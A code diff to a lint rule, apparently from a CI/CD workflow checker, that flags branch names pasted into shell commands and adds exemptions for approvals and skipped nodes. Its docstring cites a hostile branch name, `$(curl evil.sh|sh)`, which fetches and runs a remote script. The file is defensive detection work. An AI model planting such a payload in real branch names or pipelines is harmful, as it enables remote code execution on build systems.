@@ -6,6 +6,7 @@ from collections.abc import Iterator
 
 from nflint.diagnostic import Finding, Severity
 from nflint.flow.branch_names import Source, branch_sources
+from nflint.flow.pull_requests import deliveries
 from nflint.flow.reach import is_pasted
 from nflint.flow.shell_commands import is_command, is_shell_command
 from nflint.flow.uses import Use
@@ -20,9 +21,11 @@ def command_injection(wiring: Wiring) -> Iterator[Finding]:
     `$(curl evil.sh|sh)` could be a branch, and `${...}` pastes its name into the command before the shell reads it, so
     that quotes around do not help. A warning where pull requests start the flow, since whoever opens one names the
     branch; an info where the rules of the trigger have a wildcard, or a rich input offers all branches, since there
-    anybody who may push does. Silent where the trigger names its branches in full, on commits and IDs, on what goes
-    through `fn.slug` or `fn.toBase64`, and on commands that no shell reads: an Action starts none by itself. Values in
-    `runtimeEnvironment` are safe, a shell does not read `"$BRANCH"` a second time.
+    anybody who may push does. An argument that is made of the name is as bad. Silent where the trigger names its
+    branches in full, on commits and IDs, on what goes through `fn.slug` or `fn.toBase64`, on commands that no shell
+    reads (an Action starts none by itself), after an Approval, and where the node or a workflow around it has a
+    `skipNodeExecution` that reads the trigger. Values in `runtimeEnvironment` are safe: a shell does not read
+    `$BRANCH` a second time.
 
     Source: the guide "Release", use Git triggers: "use them as part of a command override or shell command".
 
@@ -56,11 +59,18 @@ def command_injection(wiring: Wiring) -> Iterator[Finding]:
                   kind: Job
                   spec: {type: execute, data: {jobId: notes, command: 'sh -c "note ${refs.app.sha}"'}}
     """
-    for use, source in branch_sources(wiring, is_command):
-        if source.freedom != "none" and is_shell_command(use.text) and is_pasted(use):
-            severity = Severity.WARNING if source.freedom == "anybody" else Severity.INFO
-            message = f"the name of a branch becomes part of a shell command, and {_who(source)} chooses it"
-            yield Finding(use.place(), message, _hint(use), source.related, severity)
+    pasted = [
+        (use, source)
+        for use, source in branch_sources(wiring, is_command, is_pasted)
+        if source.freedom != "none" and is_shell_command(use.text) and is_pasted(use)
+    ]
+    known = deliveries(wiring) if pasted else {}
+    for use, source in pasted:
+        if use.node is not None and known[use.scope.pointer].is_guarded(use.node, source.trigger):
+            continue
+        severity = Severity.WARNING if source.freedom == "anybody" else Severity.INFO
+        message = f"the name of a branch becomes part of a shell command, and {_who(source)} chooses it"
+        yield Finding(use.place(), message, _hint(use), source.related, severity)
 
 
 def _who(source: Source) -> str:
@@ -69,5 +79,6 @@ def _who(source: Source) -> str:
 
 def _hint(use: Use) -> str:
     if use.text.node is not None and use.text.node.kind == "JobRun":
-        return f"put '${{{use.source}}}' into 'runtimeEnvironment', as BRANCH, and write \"$BRANCH\" here"
-    return f"write '${{fn.slug({use.source})}}', or use the commit instead"
+        return f"put '${{{use.source}}}' into 'runtimeEnvironment', as BRANCH, and write $BRANCH here"
+    way = f"write '${{fn.slug({use.source})}}', by which 'fix/tax' becomes 'fix-tax'"
+    return f"{way}; where the branch itself is needed, use the commit"
